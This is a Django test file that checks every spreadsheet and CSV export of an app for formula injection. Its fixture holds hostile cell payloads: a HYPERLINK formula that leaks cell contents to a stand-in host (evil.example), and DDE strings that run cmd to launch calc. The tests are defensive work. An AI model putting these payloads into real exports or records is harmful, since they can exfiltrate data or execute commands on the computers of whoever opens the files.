"""Every spreadsheet the app writes (Excel template, assessment workbooks, open-data CSV, dashboard
table exports) writes hostile text as text: no cell becomes a formula, no CSV field starts like one."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Organization
from projects.choices import State
from projects.models import IndicatorValue

from .factories import make_world

pytestmark = [pytest.mark.django_db]
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "target_text": "+2%",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "note": "-2+3+cmd|' /C calc'!A0",
    "org": "=cmd|' /C calc'!A0",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[-+]?\d+(\.\d+)?%?$")


@pytest.fixture
def world(db):
    w = make_world()
    Organization.objects.filter(pk=w.org.pk).update(name=HOSTILE["org"])
    w.share.name, w.share.target_text = HOSTILE["name"], HOSTILE["target_text"]
    w.share.save()
    IndicatorValue.objects.filter(pk=w.submitted_value.pk).update(
        state=State.APPROVED, source=HOSTILE["source"], note=HOSTILE["note"], value=Decimal("1.8")
    )
    w.org.refresh_from_db()
    return w


def downloads(w):
    plan, year, org = w.plan.code, w.year, w.org.pk
    return {
        "excel template": reverse("excel:template_download", args=[plan, year, org]),
        "plan workbook": reverse("opendata:plan_workbook", args=[plan]) + f"?year={year}&preliminary=1",
        "assessment workbook": reverse("opendata:workbook") + f"?year={year}&plans={plan}",
        "open data csv": reverse("opendata:plan_csv", args=[plan]),
        "dashboard csv": reverse("reports:plan_dashboard", args=[plan]) + f"?year={year}&_export=csv",
        "dashboard xlsx": reverse("reports:plan_dashboard", args=[plan]) + f"?year={year}&_export=xlsx",
    }


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def formula_cells_xlsx(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))  # not data_only: formulas stay formulas
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith("=") and cell.data_type != "s"
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def formula_fields_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [
        f"line {n}: {field!r}"
        for n, record in enumerate(csv.reader(io.StringIO(text)), start=1)
        for field in record
        if field.startswith(FORMULA_START) and not NUMBER.match(field)
    ]


SPREADSHEETS = [
    "excel template",
    "plan workbook",
    "assessment workbook",
    "open data csv",
    "dashboard csv",
    "dashboard xlsx",
]


@pytest.mark.parametrize("name", SPREADSHEETS)
def test_it_never_writes_hostile_text_as_a_formula(world, name):
    client = Client()
    client.force_login(world.admin)
    response = client.get(downloads(world)[name])
    assert response.status_code == 200, name
    data = content(response)
    hostile_present = any(
        value.encode() in data or value.lstrip("=+-@").encode() in data for value in HOSTILE.values()
    ) or data.startswith(b"PK")
    assert hostile_present
    found = formula_cells_xlsx(data) if data.startswith(b"PK") else formula_fields_csv(data)
    assert found == [], f"{name}: cells a spreadsheet would run as formulas: {found}"
